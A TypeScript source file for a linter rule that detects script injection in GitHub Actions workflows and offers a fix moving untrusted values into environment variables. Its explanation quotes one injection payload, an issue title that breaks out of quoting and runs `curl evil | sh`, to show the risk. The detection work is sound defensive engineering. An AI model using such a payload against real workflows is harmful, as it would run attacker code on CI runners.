import { isMap, type Node } from 'yaml';
import { defineRule, type FixDraft } from '../../define-rule.ts';
import { entryOf, textOf } from '../../yaml/document.ts';
import { actionOf, type Job, type Step, sourceOf, type WorkflowDocument } from '../document.ts';
import { type Expression, expressionsIn, untrustedPart } from '../expressions.ts';

export const scriptInjection = defineRule<WorkflowDocument>(
  {
    id: 'github-actions/script-injection',
    title: 'Do not paste what a stranger writes into a script',
    severity: 'error',
    item: 'security',
    why: 'The expression is put into the script as text before the shell reads it: a title such as `"; curl evil | sh; "` is run.',
    source: 'https://docs.github.com/en/actions/concepts/security/script-injections',
    bad: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New \${{ github.event.issue.title }}"\n`,
    good: `on: issues\npermissions: {}\njobs:\n  greet:\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "New $TITLE"\n        env:\n          TITLE: \${{ github.event.issue.title }}\n`,
    fix: 'Hands the value over in a variable, where it is only data. Offered in steps whose shell is known to be a POSIX one.',
  },
  (document, report) => {
    const { yaml, jobs } = document;
    for (const job of jobs)
      for (const step of job.steps) {
        const script = step.run ?? (actionOf(step) === 'actions/github-script' ? step.inputs.get('script') : undefined);
        if (!script) continue;
        const { start, text } = sourceOf(script.node, yaml);
        for (const expression of expressionsIn(text)) {
          const part = untrustedPart(expression.body);
          if (part === null) continue;
          const fixes =
            step.run && isPosix(job, step, document) ? throughVariable(document, step, expression, part) : [];
          report(
            yaml.lines.range(start + expression.start, start + expression.end),
            `Anyone can write ${part}, and it becomes part of the script.`,
            { fixes },
          );
        }
      }
  },
);

function isPosix(job: Job, step: Step, { yaml, entries }: WorkflowDocument): boolean {
  const shell = step.entries.find((entry) => entry.key === 'shell');
  if (shell) return /^(?:bash|sh)\b/.test(textOf(shell.value) ?? '');
  const defaults = [...entries, ...job.entries].some((entry) => entry.key === 'defaults');
  const runner = textOf(entryOf(job.node, 'runs-on', yaml.lines)?.value) ?? '';
  return !defaults && /^(?:ubuntu|macos)/.test(runner);
}

function throughVariable({ yaml }: WorkflowDocument, step: Step, expression: Expression, part: string): FixDraft[] {
  const { lines } = yaml;
  const node: Node | undefined = step.run?.node;
  const runEntry = step.entries.find((entry) => entry.key === 'run');
  if (!node || !runEntry || !isMap(step.node) || step.node.flow) return [];
  const name = part
    .split('.')
    .slice(part.startsWith('github.event.') ? 2 : 1)
    .join('_')
    .replace(/\W+/g, '_')
    .toUpperCase();
  const { start, text } = sourceOf(node, yaml);
  // In single quotes the shell would not put the value in.
  const line = text.slice(text.lastIndexOf('\n', expression.start) + 1, expression.start);
  if ((line.match(/'/g)?.length ?? 0) % 2 === 1) return [];
  const quoted = (line.match(/(?<!\\)"/g)?.length ?? 0) % 2 === 1;
  const use = {
    range: lines.range(start + expression.start, start + expression.end),
    newText: quoted ? `\${${name}}` : `"\${${name}}"`,
  };
  if (!quoted && /^["']/.test(text)) return [];
  const value = `${name}: ${text.slice(expression.start, expression.end)}`;
  const indent = ' '.repeat(runEntry.keyRange.start.character);
  const env = step.entries.find((entry) => entry.key === 'env');
  if (env && (!isMap(env.value) || env.value.flow || env.value.items.length === 0)) return [];
  if (env && entryOf(env.value, name, lines)) return [];
  const [first] = env && isMap(env.value) ? env.value.items : [];
  const at = env ? lines.position(sourceOf(env.value ?? node, yaml).start) : runEntry.keyRange.start;
  if (env && !first) return [];
  const newText = env
    ? `${value}${lines.eol}${' '.repeat(at.character)}`
    : `env:${lines.eol}${indent}  ${value}${lines.eol}${indent}`;
  return [
    { title: `Hand it over as ${name}`, kind: 'offered', edits: [{ range: { start: at, end: at }, newText }, use] },
  ];
}
